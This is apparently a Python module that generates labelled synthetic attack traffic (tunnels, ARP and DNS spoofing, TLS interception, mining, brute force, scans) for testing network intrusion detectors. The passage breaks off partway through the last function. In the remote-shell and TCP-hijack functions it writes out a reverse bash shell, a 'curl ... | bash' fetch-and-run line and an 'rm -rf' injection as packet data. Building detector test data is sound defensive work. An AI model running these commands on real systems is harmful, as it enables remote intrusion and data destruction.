"""Synthetic incidents: each function lays one attack over a site's traffic and returns its
label (category, technique, hosts, time span).

Each attack is built the way its usual tools behave (iodine, ptunnel, arpspoof, netwox, a rogue
dnsmasq, mitmproxy, XMRig, hydra, nmap, hping3, DNS amplification, dhcpstarv), not around the
detectors' thresholds: the rates, sizes and counts are those of the tools' defaults or of
published incident reports, and are written down here so that a reader can check them.
Protocol packets carry real bytes; bulk data carries only headers and its true length.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field

import numpy as np

from detector.synth import dns
from detector.synth import messages as msg
from detector.synth.craft import BROADCAST_MAC, Crafter, Peer, peer
from detector.synth.packets import PacketSpec, PayloadPool, ip_words
from detector.synth.site import Host, Site
from detector.synth.traffic import TH_ACK, TH_PSH, TH_RST, TH_SYN

S = 1_000_000_000  # ns per second
MS = 1_000_000


@dataclass
class Stage:
    """Where an attack is laid out: the site, a seeded generator, the payload pool, the crafted
    packets, and the time the attack starts."""

    site: Site
    rng: np.random.Generator
    pool: PayloadPool
    t0: int
    craft: Crafter = None
    parts: list[PacketSpec] = field(default_factory=list)

    def __post_init__(self):
        if self.craft is None:
            self.craft = Crafter(self.pool)

    def host(self, name: str) -> Host:
        return self.site.by_name[name]

    def peer(self, x, **kw) -> Peer:
        return peer(self.site, x, **kw)

    def external(self, first_octets=(45, 91, 185, 193, 194)) -> str:
        r = self.rng
        return f"{int(r.choice(first_octets))}.{int(r.integers(1, 255))}.{int(r.integers(0, 256))}.{int(r.integers(1, 255))}"

    def packets(self) -> PacketSpec:
        return PacketSpec.concat([self.craft.spec(), *self.parts])


def incident(category: str, technique: str, hosts: list[str], start: int, end: int, what: str) -> dict:
    return {"category": category, "technique": technique, "hosts": hosts, "start_ns": int(start), "end_ns": int(end),
            "description": what}


def _b32(rng, n: int) -> str:
    return base64.b32encode(rng.bytes(n)).decode().rstrip("=").lower()


# -- exfiltration ---------------------------------------------------------------------------------
def dns_tunnel(st: Stage) -> dict:
    """iodine through the site resolver: NULL queries whose names carry base32 upstream data
    (one 55-63 character label per query), about 3 queries a second for 4 minutes, each
    answered with a NULL record of downstream data."""
    client, resolver = st.peer(st.host("login2")), st.peer(st.host("dns1"))
    domain = "t1.cdn-edge-sync.net"
    t = st.t0
    n = 720
    for _ in range(n):
        name = f"{_b32(st.rng, 36)}.{domain}"
        txid = int(st.rng.integers(0, 65536))
        port = int(st.rng.integers(20000, 60000))
        q = dns.query(txid, name, "NULL")
        r = dns.response(txid, name, "NULL", [st.rng.bytes(int(st.rng.integers(60, 220)))], ttl=0)
        st.craft.udp(t, client, resolver, port, 53, q)
        st.craft.udp(t + 30 * MS, resolver, client, 53, port, r)
        t += int(st.rng.exponential(0.33) * S) + 1
    return incident("exfiltration", "dns_tunnel", [client.text], st.t0, t,
                    f"iodine-style DNS tunnel from login2 through the site resolver to *.{domain}")


def icmp_tunnel(st: Stage) -> dict:
    """ptunnel: a TCP session carried in ICMP echo requests and replies with ptunnel's magic
    header (0xD5200880) and data of any size; 400 exchanges in 3 minutes."""
    client, proxy = st.peer(st.host("ws3")), st.peer(st.external())
    t = st.t0
    ident = int(st.rng.integers(1, 65535))
    for k in range(400):
        up = int(st.rng.choice([0, 64, 512, 1024, 1400], p=[0.2, 0.2, 0.2, 0.2, 0.2]))
        down = int(st.rng.choice([0, 128, 1400], p=[0.4, 0.3, 0.3]))
        head = b"\xd5\x20\x08\x80" + bytes(4) + np.uint32(22).tobytes()[::-1] + np.uint32(k).tobytes()[::-1]
        st.craft.ip(t, client, proxy, 1, 8, 0, head + st.rng.bytes(up), seq=(ident << 16) | (k & 0xFFFF))
        st.craft.ip(t + 40 * MS, proxy, client, 1, 0, 0, head + st.rng.bytes(down), seq=(ident << 16) | (k & 0xFFFF))
        t += int(st.rng.exponential(0.45) * S) + 1
    return incident("exfiltration", "icmp_tunnel", [client.text, proxy.text], st.t0, t,
                    "ptunnel ICMP tunnel from ws3 to an external proxy")


def bulk_upload(st: Stage) -> dict:
    """A login node pushes 600 MiB to a file-sharing host it never used before, over HTTPS, in
    64 KiB segments (a capture on the sending host sees TCP segmentation offload)."""
    client, server = st.peer(st.host("login3")), st.peer(st.external((104, 172)))
    r = st.rng
    hello = [(True, msg.client_hello(r, "upload.filedrop-share.io")),
             (False, msg.server_flight(r, [msg.certificate(r, "upload.filedrop-share.io", "R11", "Let's Encrypt")])),
             (True, msg.client_finish(r)), (False, msg.server_finish(r))]
    chunks = [(True, 1 << 20)] * 600  # one MiB per acknowledged burst
    end = st.craft.tcp_session(st.t0, client, server, 51234, 443, hello + chunks + [(False, 200)], rtt_ns=30 * MS,
                               gap_ns=5 * MS, segment=65160)
    return incident("exfiltration", "bulk_upload", [client.text, server.text], st.t0, end,
                    "600 MiB pushed from login3 to a new external host over HTTPS")


def login_upload(st: Stage) -> dict:
    """A login node whose own uploads are small (a few kB to package mirrors) pushes 120 MiB to
    an Internet host no site host had talked to, over HTTPS: below the 200 MiB floor a DTN keeps,
    far above what this host sends anywhere."""
    client, server = st.peer(st.host("login1")), st.peer(st.external((104, 172)))
    r = st.rng
    for k in range(6):  # its ordinary traffic: small requests to a mirror
        mirror = st.peer(f"151.101.{k}.223")
        st.craft.tcp_session(st.t0 - 15 * S + k * 2 * S, client, mirror, 41000 + k, 443,
                             [(True, msg.client_hello(r, "pypi.org")), (False, 20_000), (True, 600)], rtt_ns=20 * MS)
    hello = [(True, msg.client_hello(r, "drop.quickshare-files.net")),
             (False, msg.server_flight(r, [msg.certificate(r, "drop.quickshare-files.net", "R11", "Let's Encrypt")])),
             (True, msg.client_finish(r)), (False, msg.server_finish(r))]
    end = st.craft.tcp_session(st.t0, client, server, 52345, 443, hello + [(True, 1 << 20)] * 120 + [(False, 200)],
                               rtt_ns=30 * MS, gap_ns=5 * MS, segment=65160)
    return incident("exfiltration", "bulk_upload", [client.text, server.text], st.t0, end,
                    "120 MiB pushed from login1, which normally sends little, to a new external host")


def c2_port80(st: Stage) -> dict:
    """An implant on login2 calls home on port 80 and keeps the connection for three hours,
    speaking its own binary protocol (not HTTP): a check-in every 30 s and an occasional
    command with its output."""
    client, server = st.peer(st.host("login2")), st.peer(st.external((45, 185)))
    r = st.rng
    hello = bytes([0x8F, 0x02]) + r.bytes(46)
    talk = [(True, hello), (False, bytes([0x8F, 0x03]) + r.bytes(30))]
    for k in range(360):
        talk.append((True, bytes([0x8F, 0x10]) + r.bytes(14)))
        if k % 40 == 39:
            talk += [(False, bytes([0x8F, 0x20]) + r.bytes(60)), (True, int(r.integers(2000, 9000)))]
    end = st.craft.tcp_session(st.t0, client, server, 43210, 80, talk, rtt_ns=60 * MS, gap_ns=30 * S, close="open")
    return incident("unauthorized_access", "long_connection", [client.text, server.text], st.t0, end,
                    "a three-hour non-HTTP session from login2 to an external host on port 80")


def reverse_ssh(st: Stage) -> dict:
    """A reverse shell tool that runs an SSH server and dials out: login4 opens the TCP
    connection to port 443 outside and then sends the SSH server banner and host key."""
    inside, outside = st.peer(st.host("login4")), st.peer(st.external())
    shake = msg.ssh_handshake(st.rng, msg.ssh_host_key(4242), client="SSH-2.0-OpenSSH_8.9p1",
                              server="SSH-2.0-Go")
    flipped = [(not c, b) for c, b in shake]  # the dialling side plays the SSH server
    typing = [(bool(st.rng.random() < 0.5), int(st.rng.integers(36, 120))) for _ in range(200)]
    end = st.craft.tcp_session(st.t0, inside, outside, 40222, 443, flipped + typing, rtt_ns=40 * MS,
                               gap_ns=400 * MS, close="open")
    return incident("exfiltration", "reverse_ssh", [inside.text, outside.text], st.t0, end,
                    "login4 dials out and serves SSH to the outside (reverse SSH)")


# -- mitm ----------------------------------------------------------------------------------------------
def arp_spoof(st: Stage) -> dict:
    """arpspoof against five compute nodes and the gateway: unsolicited ARP replies every 2 s
    for 2 minutes, each claiming the other side's address for the attacker's MAC."""
    gw, attacker = st.site.gateway, st.host("ws9")
    victims = [st.host(f"cn{i:04d}") for i in range(1, 6)]
    gw_ip = gw.v4_words[1] & 0xFFFFFFFF
    t = st.t0
    for v in victims:  # the real binding, seen first
        st.craft.arp(t, 1, v.mac_int, v.v4_words[1] & 0xFFFFFFFF, 0, gw_ip)
        st.craft.arp(t + 200_000, 2, gw.mac_int, gw_ip, v.mac_int, v.v4_words[1] & 0xFFFFFFFF)
        t += 50 * MS
    start = t + 5 * S
    t = start
    for _ in range(60):
        for v in victims:
            vip = v.v4_words[1] & 0xFFFFFFFF
            st.craft.arp(t, 2, attacker.mac_int, gw_ip, v.mac_int, vip)
            st.craft.arp(t + 1 * MS, 2, attacker.mac_int, vip, gw.mac_int, gw_ip)
        t += 2 * S
    return incident("mitm", "arp_spoof", [attacker.ipv4, gw.ipv4] + [v.ipv4 for v in victims], start, t,
                    "ws9 poisons the ARP caches of five compute nodes and of the gateway")


def _web_visits(st: Stage, victim: Peer, t: int, n: int, to_mac: int, relay_mac: int | None = None) -> int:
    """``n`` short HTTPS visits by ``victim`` to distinct external servers, its frames addressed to
    ``to_mac``; with ``relay_mac``, each of its frames is passed on from ``to_mac`` to that MAC."""
    c, r = st.craft, st.rng
    for k in range(n):
        server = st.peer(st.external((93, 104, 151)))
        cport, seq, sseq = 45000 + k, int(r.integers(1, 2**31)), int(r.integers(1, 2**31))
        hello = msg.client_hello(r, f"www.site{k}.example.com")
        out = [(0, TH_SYN, b"", seq), (40 * MS, TH_ACK, b"", seq + 1), (41 * MS, TH_ACK | TH_PSH, hello, seq + 1)]
        for dt, flags, data, sq in out:
            c.ip(t + dt, victim, server, 6, cport, 443, data, flags=flags, seq=sq, ack=sseq + 1, dst_mac=to_mac)
            if relay_mac is not None:
                c.ip(t + dt + 200_000, victim, server, 6, cport, 443, data, flags=flags, seq=sq, ack=sseq + 1,
                     src_mac=to_mac, dst_mac=relay_mac)
        c.ip(t + 20 * MS, server, victim, 6, 443, cport, flags=TH_SYN | TH_ACK, seq=sseq, ack=seq + 1)
        c.ip(t + 80 * MS, server, victim, 6, 443, cport, bytes(1200), flags=TH_ACK | TH_PSH, seq=sseq + 1,
             ack=seq + 1 + len(hello))
        t += int(r.uniform(1, 4) * S)
    return t


def arp_request(st: Stage) -> dict:
    """One forged ARP request and a quiet relay (as arpspoof -r or bettercap do it gently): ws11
    asks ws6 for ws6's own address, giving the gateway's address with its own MAC as the sender;
    ws6 updates its cache, its traffic to the Internet now goes to ws11, which passes it on to
    the real gateway."""
    gw, attacker, victim = st.site.gateway, st.host("ws11"), st.host("ws6")
    v = st.peer(victim)
    t = _web_visits(st, v, st.t0 - 40 * S, 8, gw.mac_int)
    start = t + 40 * S
    st.craft.arp(start, 1, attacker.mac_int, gw.v4_words[1] & 0xFFFFFFFF, 0, victim.v4_words[1] & 0xFFFFFFFF)
    t = _web_visits(st, v, start + 2 * S, 8, attacker.mac_int, relay_mac=gw.mac_int)
    return incident("mitm", "gateway_mac_change", [attacker.ipv4, gw.ipv4, victim.ipv4], start, t,
                    "ws11 poisons ws6 with one ARP request and relays its traffic to the gateway")


def icmp_redirect(st: Stage) -> dict:
    """netwox 86: ICMP host redirects that forge the gateway's address from the attacker's
    interface, telling a compute node to route an external destination through the attacker."""
    gw, attacker, victim = st.site.gateway, st.host("ws11"), st.host("cn0007")
    t = st.t0
    st.craft.arp(t, 1, victim.mac_int, victim.v4_words[1] & 0xFFFFFFFF, 0, gw.v4_words[1] & 0xFFFFFFFF)
    st.craft.arp(t + 200_000, 2, gw.mac_int, gw.v4_words[1] & 0xFFFFFFFF, victim.mac_int,
                 victim.v4_words[1] & 0xFFFFFFFF)
    start = t = t + 3 * S
    forged = st.peer(gw, mac=attacker.mac_int)
    target = st.external()
    new_gw = attacker.v4_words[1] & 0xFFFFFFFF
    for _ in range(5):
        st.craft.ip(t, forged, st.peer(victim), 1, 5, 1, msg.ip_header_copy(victim.ipv4, target), seq=new_gw)
        t += int(st.rng.uniform(5, 15) * S)
    return incident("mitm", "icmp_redirect", [attacker.ipv4, victim.ipv4], start, t,
                    "ws11 forges ICMP redirects from the gateway's address to cn0007")


def rogue_dhcp(st: Stage) -> dict:
    """A rogue DHCP server (dnsmasq on a workstation) racing the real one: six clients ask,
    both answer, the rogue offers itself as router and DNS server."""
    gw, rogue = st.site.gateway, st.host("ws12")
    real_s = st.peer(gw)
    rogue_s = st.peer(rogue)
    bcast = Peer(0, ip_words("255.255.255.255")[1], BROADCAST_MAC, 4, "255.255.255.255")
    zero = Peer(0, ip_words("0.0.0.0")[1], 0, 4, "0.0.0.0")
    t = start = st.t0
    for k in range(6):
        c = st.host(f"ws{20 + k}")
        xid = int(st.rng.integers(0, 2**32))
        me = Peer(zero.hi, zero.lo, c.mac_int, 4, "0.0.0.0")
        st.craft.udp(t, me, bcast, 68, 67, msg.dhcp(msg.DISCOVER, xid, c.mac_int), dst_mac=BROADCAST_MAC)
        st.craft.udp(t + 2 * MS, rogue_s, bcast, 67, 68, msg.dhcp(msg.OFFER, xid, c.mac_int, "10.10.50.200",
                                                                  rogue.ipv4, rogue.ipv4, rogue.ipv4),
                     dst_mac=BROADCAST_MAC)
        st.craft.udp(t + 9 * MS, real_s, bcast, 67, 68, msg.dhcp(msg.OFFER, xid, c.mac_int, c.ipv4, gw.ipv4,
                                                                 gw.ipv4, "10.10.0.53"), dst_mac=BROADCAST_MAC)
        st.craft.udp(t + 20 * MS, me, bcast, 68, 67, msg.dhcp(msg.REQUEST, xid, c.mac_int, server_id=rogue.ipv4,
                                                               requested="10.10.50.200"), dst_mac=BROADCAST_MAC)
        st.craft.udp(t + 22 * MS, rogue_s, bcast, 67, 68, msg.dhcp(msg.ACK, xid, c.mac_int, "10.10.50.200",
                                                                  rogue.ipv4, rogue.ipv4, rogue.ipv4),
                     dst_mac=BROADCAST_MAC)
        t += int(st.rng.uniform(20, 90) * S)
    return incident("mitm", "rogue_dhcp", [rogue.ipv4], start, t, "ws12 runs a second DHCP server")


def dns_spoof(st: Stage) -> dict:
    """An on-path spoofer (ettercap dns_spoof) answers workstations' queries before the site
    resolver, forging the resolver's address: two answers per question, the first one false."""
    attacker, resolver = st.host("ws13"), st.host("dns1")
    forged = st.peer(resolver, mac=attacker.mac_int)
    real = st.peer(resolver)
    t = start = st.t0
    victims = []
    for k in range(5):
        victim = st.peer(st.host(f"ws{2 + 2 * k}"))
        victims.append(victim.text)
        name = ["login.partner-hpc.org", "portal.partner-hpc.org", "gitlab.partner-hpc.org", "mail.partner-hpc.org",
                "sso.partner-hpc.org"][k]
        txid, port = int(st.rng.integers(0, 65536)), int(st.rng.integers(20000, 60000))
        st.craft.udp(t, victim, real, port, 53, dns.query(txid, name))
        st.craft.udp(t + 1 * MS, forged, victim, 53, port, dns.response(txid, name, "A", [bytes([10, 10, 50, 22])]))
        st.craft.udp(t + 12 * MS, real, victim, 53, port,
                     dns.response(txid, name, "A", [bytes([198, 51, 100, 80 + k])], ttl=3600))
        t += int(st.rng.uniform(10, 40) * S)
    return incident("mitm", "dns_spoof", [attacker.ipv4, resolver.ipv4] + victims, start, t,
                    "ws13 races the site resolver with forged answers")


def _ssh_logins(st: Stage, client: Peer, server: Peer, t: int, host_key: bytes, n: int, every_s: float,
                typed: int = 60) -> int:
    for _ in range(n):
        shake = msg.ssh_handshake(st.rng, host_key)
        session = [(bool(st.rng.random() < 0.45), int(st.rng.integers(36, 180))) for _ in range(typed)]
        st.craft.tcp_session(t, client, server, int(st.rng.integers(32768, 61000)), 22, shake + session,
                             rtt_ns=25 * MS, gap_ns=300 * MS)
        t += int(every_s * S * st.rng.uniform(0.7, 1.3))
    return t


def ssh_hostkey(st: Stage) -> dict:
    """A user logs in to login1 five times, always seeing its host key; then an interceptor
    between them answers with its own key (ssh-mitm)."""
    user = st.peer(st.external((130, 131, 141)))
    login = st.peer(st.host("login1"))
    t = _ssh_logins(st, user, login, st.t0, msg.ssh_host_key(1), 5, 120)
    start = t
    t = _ssh_logins(st, user, login, t, msg.ssh_host_key(0xBAD), 2, 60)
    return incident("mitm", "ssh_hostkey_change", [login.text, user.text], start, t,
                    "SSH to login1 is answered with another host key")


def _tls_sessions(st: Stage, client: Peer, server: Peer, t: int, sni: str, chain: list[bytes], n: int,
                  every_s: float) -> int:
    for _ in range(n):
        r = st.rng
        st.craft.tcp_session(t, client, server, int(r.integers(32768, 61000)), 443,
                             [(True, msg.client_hello(r, sni)), (False, msg.server_flight(r, chain)),
                              (True, msg.client_finish(r)), (False, msg.server_finish(r)),
                              (True, msg.app_data(r, 600)), (False, 30_000)], rtt_ns=18 * MS)
        t += int(every_s * S * r.uniform(0.7, 1.3))
    return t


def tls_cert(st: Stage) -> dict:
    """Workstations reach a partner portal with its Let's Encrypt certificate; then a TLS
    interception proxy (mitmproxy) answers for the same name with a certificate of its own CA."""
    server = st.peer("198.51.100.80")
    name = "portal.partner-hpc.org"
    real = [msg.certificate(st.rng, name, "R11", "Let's Encrypt"), msg.certificate(st.rng, "R11", "ISRG Root X1",
                                                                                   "Internet Security Research Group")]
    fake = [msg.certificate(st.rng, name, "mitmproxy", "mitmproxy")]
    t = st.t0
    for k in range(4):
        t = _tls_sessions(st, st.peer(st.host(f"ws{1 + k}")), server, t, name, real, 1, 30)
    start = t
    for k in range(3):
        t = _tls_sessions(st, st.peer(st.host(f"ws{5 + k}")), server, t, name, fake, 1, 30)
    return incident("mitm", "tls_cert_change", [name, server.text], start, t,
                    f"{name} is answered with a certificate from another issuer")


def tls_name(st: Stage) -> dict:
    """Workstations ask for portal.partner-hpc.org and an interception box answers with a
    certificate made for another name (its own CDN wildcard), as a misconfigured TLS proxy or a
    DNS-spoofed redirect to someone else's server does."""
    server = st.peer("198.51.100.80")
    name = "portal.partner-hpc.org"
    chain = [msg.certificate(st.rng, "*.edge-cache-cdn.net", "R11", "Let's Encrypt"),
             msg.certificate(st.rng, "R11", "ISRG Root X1", "Internet Security Research Group")]
    t = start = st.t0
    for k in range(4):
        t = _tls_sessions(st, st.peer(st.host(f"ws{1 + k}")), server, t, name, chain, 1, 30)
    return incident("mitm", "tls_name_mismatch", [name, server.text, st.host("ws1").ipv4], start, t,
                    f"{name} is answered with a certificate for *.edge-cache-cdn.net")


def tcp_hijack(st: Stage) -> dict:
    """Segments injected into an established cleartext session (shijack-style): an external
    user's telnet session to a legacy service host receives data and a reset forged with the
    user's address, from an attacker nine routers nearer or farther than the user. The real
    user's stack never learns of the injected bytes, so its next keystrokes reuse the sequence
    numbers the injection took, with other bytes (what the hijacked side of a real one shows)."""
    user, server = st.peer(st.external((130, 131))), st.peer(st.host("ntp1"))
    c = st.craft
    cport, sport = 50123, 23
    cs, ss = int(st.rng.integers(0, 2**31)), int(st.rng.integers(0, 2**31))
    forged = user.ttl + 9 if user.ttl + 9 <= 64 else user.ttl - 9  # the attacker is nine routers off the path
    t = st.t0
    c.ip(t, user, server, 6, cport, sport, flags=TH_SYN, seq=cs)
    c.ip(t + 20 * MS, server, user, 6, sport, cport, flags=TH_SYN | TH_ACK, seq=ss, ack=cs + 1)
    cs += 1
    ss += 1
    c.ip(t + 40 * MS, user, server, 6, cport, sport, flags=TH_ACK, seq=cs, ack=ss)
    t += 100 * MS
    start = None
    user_seq = cs  # where the user's own stack thinks its stream is
    for k in range(40):
        injected = k in (25, 26, 27)
        data = b"rm -rf /tmp/x; echo ok\r\n" if injected else bytes([int(st.rng.integers(97, 122))])
        if k == 28:
            data = b"ls\r\n"  # the user's next line, at the sequence number the injection took
        if injected and start is None:
            start = t
        seq = cs if injected else user_seq
        c.ip(t, user, server, 6, cport, sport, data, flags=TH_ACK | TH_PSH, seq=seq, ack=ss,
             ttl=forged if injected else None)
        if injected:
            cs += len(data)
        else:
            user_seq += len(data)
            cs = max(cs, user_seq)
        c.ip(t + 20 * MS, server, user, 6, sport, cport, data, flags=TH_ACK | TH_PSH, seq=ss, ack=cs)
        ss += len(data)
        t += int(st.rng.uniform(0.15, 0.6) * S)
    c.ip(t, user, server, 6, cport, sport, flags=TH_RST, seq=cs, ttl=forged)
    return incident("mitm", "ttl_change", [server.text, user.text], start, t,
                    "data and a reset injected into a telnet session to ntp1")


# -- compute theft ---------------------------------------------------------------------------
def stratum(st: Stage) -> dict:
    """XMRig on a compute node, speaking Monero's Stratum dialect in the clear on port 443 to a
    pool proxy: login, jobs, share submissions every 20-40 s and keep-alives, for 15 minutes."""
    node, pool = st.peer(st.host("cn0012")), st.peer(st.external((51, 95, 141)))
    agent = "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.4.0"
    wallet = "4" + _b32(st.rng, 58)[:94]
    msgs: list[tuple[bool, bytes | int]] = [
        (True, msg.jsonrpc({"id": 1, "jsonrpc": "2.0", "method": "login",
                            "params": {"login": wallet, "pass": "x", "agent": agent, "algo": ["rx/0"]}})),
        (False, msg.jsonrpc({"id": 1, "jsonrpc": "2.0", "error": None,
                             "result": {"id": _b32(st.rng, 10), "status": "OK",
                                        "job": {"blob": st.rng.bytes(76).hex(), "job_id": "1", "target": "b88d0600",
                                                "algo": "rx/0"}}}))]
    for k in range(35):
        msgs.append((True, msg.jsonrpc({"id": 2 + k, "jsonrpc": "2.0", "method": "submit",
                                        "params": {"id": "1", "job_id": str(1 + k // 3),
                                                   "nonce": st.rng.bytes(4).hex(), "result": st.rng.bytes(32).hex()}})))
        msgs.append((False, msg.jsonrpc({"id": 2 + k, "jsonrpc": "2.0", "error": None, "result": {"status": "OK"}})))
        if k % 3 == 2:
            msgs.append((False, msg.jsonrpc({"jsonrpc": "2.0", "method": "job",
                                             "params": {"blob": st.rng.bytes(76).hex(), "job_id": str(2 + k // 3),
                                                        "target": "b88d0600", "algo": "rx/0"}})))
        if k % 10 == 9:
            msgs.append((True, msg.jsonrpc({"id": 100 + k, "jsonrpc": "2.0", "method": "keepalived",
                                            "params": {"id": "1"}})))
    end = st.craft.tcp_session(st.t0, node, pool, 45678, 443, msgs, rtt_ns=35 * MS, gap_ns=int(25 * S),
                               close="open")
    return incident("compute_theft", "stratum", [node.text, pool.text], st.t0, end,
                    "XMRig mining from cn0012 to a pool proxy on port 443")


TELEMETRY_ONLY = {"seen_in": "telemetry"}  # the capture shows nothing of it: only the GPU logs do


def gpu_unallocated(st: Stage) -> dict:
    """A miner started from an SSH session on cn0004, a GPU node no job holds: all four GPUs at
    full load for 20 minutes (the telemetry: :mod:`detector.synth.telemetry`). Its pool
    connection goes through the site proxy, so the wire shows nothing new."""
    node = st.peer(st.host("cn0004"))
    return incident("compute_theft", "gpu_unallocated", [node.text], st.t0, st.t0 + 20 * 60 * S,
                    "a GPU miner on cn0004 outside any job") | TELEMETRY_ONLY


def gpu_foreign(st: Stage) -> dict:
    """A user of job 81232 on cn0003 starts a miner from an SSH session, outside the job's
    cgroup, on one of the job's GPUs, for 15 minutes beside the job's own work."""
    node = st.peer(st.host("cn0003"))
    return incident("compute_theft", "gpu_foreign_process", [node.text], st.t0, st.t0 + 15 * 60 * S,
                    "a miner outside job 81232 on its GPU 2 of cn0003") | TELEMETRY_ONLY


def beaconing(st: Stage) -> dict:
    """A login node implant checks in every 60 s (+-1.5 s jitter) over HTTPS for 45 minutes,
    each time with the same small request and reply."""
    node, c2 = st.peer(st.host("login4")), st.peer(st.external((45, 193)))
    name = "telemetry.cloud-metrics-svc.com"
    chain = [msg.certificate(st.rng, name, "R10", "Let's Encrypt")]
    t = st.t0
    for _ in range(45):
        r = st.rng
        st.craft.tcp_session(t, node, c2, int(r.integers(32768, 61000)), 443,
                             [(True, msg.client_hello(r, name)), (False, msg.server_flight(r, chain)),
                              (True, msg.client_finish(r)), (False, msg.server_finish(r)),
                              (True, msg.app_data(r, 310)), (False, msg.app_data(r, 96))], rtt_ns=60 * MS)
        t += int((60 + r.uniform(-1.5, 1.5)) * S)
    return incident("compute_theft", "beaconing", [node.text, c2.text], st.t0, t,
                    "login4 beacons to an external host every minute")


def compute_outbound(st: Stage) -> dict:
    """An intruder on a compute node fetches tools straight from the Internet, bypassing the
    site proxy: three HTTPS downloads from code-hosting and paste sites."""
    node = st.peer(st.host("cn0040"))
    t = st.t0
    dests = []
    for name in ("github.com", "raw.githubusercontent.com", "paste.ee"):
        server = st.peer(st.external((140, 185, 104)))
        dests.append(server.text)
        r = st.rng
        t = st.craft.tcp_session(t, node, server, int(r.integers(32768, 61000)), 443,
                                 [(True, msg.client_hello(r, name)), (False, msg.server_flight(
                                     r, [msg.certificate(r, name, "DigiCert TLS RSA SHA256 2020 CA1", "DigiCert Inc")])),
                                  (True, msg.client_finish(r)), (False, msg.server_finish(r)),
                                  (True, msg.app_data(r, 420)), (False, 2_400_000)], rtt_ns=30 * MS) + 20 * S
    return incident("compute_theft", "compute_outbound", [node.text] + dests, st.t0, t,
                    "cn0040 downloads from the Internet directly")


# -- unauthorized access ----------------------------------------------------------------------
def _failed_ssh(st: Stage, attacker: Peer, server: Peer, t: int, host_key: bytes, tries: int = 3) -> int:
    """One hydra connection: key exchange, ``tries`` password attempts refused, server closes."""
    r = st.rng
    shake = msg.ssh_handshake(r, host_key, client="SSH-2.0-libssh_0.9.6")
    auth = [(True, 44), (False, 44), (True, 68), (False, 52)]
    for _ in range(tries):
        auth += [(True, 84), (False, 36)]
    return st.craft.tcp_session(t, attacker, server, int(r.integers(32768, 61000)), 22, shake + auth,
                                rtt_ns=80 * MS, gap_ns=int(r.uniform(0.6, 1.2) * S))


def ssh_bruteforce(st: Stage) -> dict:
    """hydra with 4 tasks against login1: 120 connections in about 8 minutes, three passwords
    per connection (OpenSSH's MaxAuthTries default lets six)."""
    attacker, login = st.peer(st.external((45, 61, 218))), st.peer(st.host("login1"))
    t = st.t0
    end = t
    for _ in range(120):
        end = max(end, _failed_ssh(st, attacker, login, t, msg.ssh_host_key(1)))
        t += int(st.rng.uniform(2, 6) * S)
    return incident("unauthorized_access", "ssh_bruteforce", [attacker.text, login.text], st.t0, end,
                    "hydra guesses SSH passwords on login1")


def distributed_guessing(st: Stage) -> dict:
    """A botnet spreads its guesses: 40 sources, three connections each, over 30 minutes, all
    against login2."""
    login = st.peer(st.host("login2"))
    sources = [st.peer(st.external((1, 27, 36, 42, 58, 61, 110, 117, 175, 218, 222))) for _ in range(40)]
    end = st.t0
    for k in range(120):
        t = st.t0 + int(st.rng.uniform(0, 1800) * S)
        end = max(end, _failed_ssh(st, sources[k % 40], login, t, msg.ssh_host_key(2), tries=2))
    return incident("unauthorized_access", "distributed_guessing", [login.text] + [s.text for s in sources[:5]],
                    st.t0, end, "40 sources guess SSH passwords on login2, three connections each")


def remote_shell(st: Stage) -> dict:
    """After a web exploit, login2 calls back to the attacker with an interactive bash shell
    (``bash -i >& /dev/tcp/host/4444``) and fetches the next stage."""
    node, attacker = st.peer(st.host("login2")), st.peer(st.external((45, 91)))
    # the shell's output comes from the side that dialled out; the attacker types the commands
    lines = [(True, b"bash: cannot set terminal process group (1432): Inappropriate ioctl for device\n"
                    b"bash: no job control in this shell\n"),
             (True, b"[svc@login2 tmp]$ "), (False, b"id; uname -a\n"),
             (True, b"uid=1001(svc) gid=1001(svc) groups=1001(svc)\nLinux login2 5.14.0 x86_64 GNU/Linux\n"),
             (False, b"curl -s http://45.91.82.7/k.sh | bash\n"), (True, b"[svc@login2 tmp]$ ")]
    end = st.craft.tcp_session(st.t0, node, attacker, 41500, 4444, lines, rtt_ns=70 * MS, gap_ns=2 * S)
    return incident("unauthorized_access", "remote_shell", [node.text, attacker.text], st.t0, end,
                    "reverse bash shell from login2 to an external host")


# -- scans ---------------------------------------------------------------------------------------
def port_scan(st: Stage) -> dict:
    """nmap -sS --top-ports 1000 against login3 at about 100 probes a second: closed ports
    answer RST, port 22 answers SYN-ACK and nmap resets it."""
    scanner, target = st.peer(st.external((45, 89, 193))), st.peer(st.host("login3"))
    ports = np.r_[22, 80, 443, st.rng.choice(np.arange(1, 65536), 997, replace=False)]
    st.rng.shuffle(ports)
    t = st.t0
    sp = int(st.rng.integers(40000, 60000))
    for p in ports.tolist():
        seq = int(st.rng.integers(0, 2**32))
        st.craft.ip(t, scanner, target, 6, sp, p, flags=TH_SYN, seq=seq, win=1024)
        if p == 22:
            st.craft.ip(t + 40 * MS, target, scanner, 6, p, sp, flags=TH_SYN | TH_ACK, seq=7, ack=seq + 1)
            st.craft.ip(t + 80 * MS, scanner, target, 6, sp, p, flags=TH_RST, seq=seq + 1)
        else:
            st.craft.ip(t + 40 * MS, target, scanner, 6, p, sp, flags=TH_RST | TH_ACK, ack=seq + 1)
        t += int(st.rng.exponential(0.01) * S) + 1
    return incident("scan", "port_scan", [scanner.text, target.text], st.t0, t, "SYN scan of login3")


def address_sweep(st: Stage) -> dict:
    """A compromised workstation looks for SSH servers across the compute network (masscan-like
    SYN probes of 10.10.100.1-250 on port 22); live nodes answer, the rest stay silent."""
    scanner = st.peer(st.host("ws14"))
    live = {h.ipv4: h for h in st.site.role("compute")}
    t = st.t0
    for k in range(1, 251):
        ip = f"10.10.100.{k}"
        target = st.peer(live[ip]) if ip in live else st.peer(ip, mac=st.site.gateway.mac_int)
        seq = int(st.rng.integers(0, 2**32))
        sp = int(st.rng.integers(40000, 60000))
        st.craft.ip(t, scanner, target, 6, sp, 22, flags=TH_SYN, seq=seq, win=1024)
        if ip in live:
            st.craft.ip(t + 1 * MS, target, scanner, 6, 22, sp, flags=TH_SYN | TH_ACK, seq=9, ack=seq + 1)
            st.craft.ip(t + 2 * MS, scanner, target, 6, sp, 22, flags=TH_RST, seq=seq + 1)
        t += int(st.rng.exponential(0.02) * S) + 1
    return incident("scan", "address_sweep", [scanner.text], st.t0, t, "SSH sweep of the compute network by ws14")


def arp_sweep(st: Stage) -> dict:
    """arp-scan of the compute network from a workstation: who-has for .1-.254 in about 8 s."""
    scanner = st.host("ws15")
